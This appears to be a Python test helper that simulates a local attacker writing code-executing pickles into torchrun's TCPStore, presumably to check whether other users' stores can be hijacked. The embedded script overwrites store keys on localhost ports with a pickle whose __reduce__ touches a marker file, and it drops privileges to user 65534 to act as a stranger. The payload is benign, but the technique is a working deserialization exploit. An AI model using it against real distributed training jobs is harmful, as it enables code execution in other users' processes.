"""Another user of the machine, who writes a pickle that runs code into the store of torchrun."""

import os
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path

ATTACK = """
import base64, pickle, sys
from datetime import timedelta
from pathlib import Path
from torch.distributed import TCPStore

class Attack:
    def __reduce__(self):
        return Path.touch, (Path(sys.argv[1]),)

ports, keys = (each.split() for each in sys.argv[2:])
for port in map(int, ports):
    try:
        store = TCPStore("127.0.0.1", port, timeout=timedelta(seconds=10), wait_for_workers=False)
        for key in keys or store.list_keys():
            store.set(key, base64.b64encode(pickle.dumps(Attack())).decode())
        print("in")
    except RuntimeError as error:  # no store, or one that accepts no strangers
        print(str(error).splitlines()[0])
"""
AS_A_STRANGER = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []


def attack_store(mark: Path, ports: Iterable[int], keys: Iterable[str] = ()) -> str:
    """Writes the attack, which creates `mark`, to these keys or to all. A line for each port: `in`, or why not."""
    words = [*AS_A_STRANGER, sys.executable, "-c", ATTACK, str(mark), " ".join(map(str, ports)), " ".join(keys)]
    return subprocess.run(words, capture_output=True, text=True, timeout=300, check=True).stdout.strip()
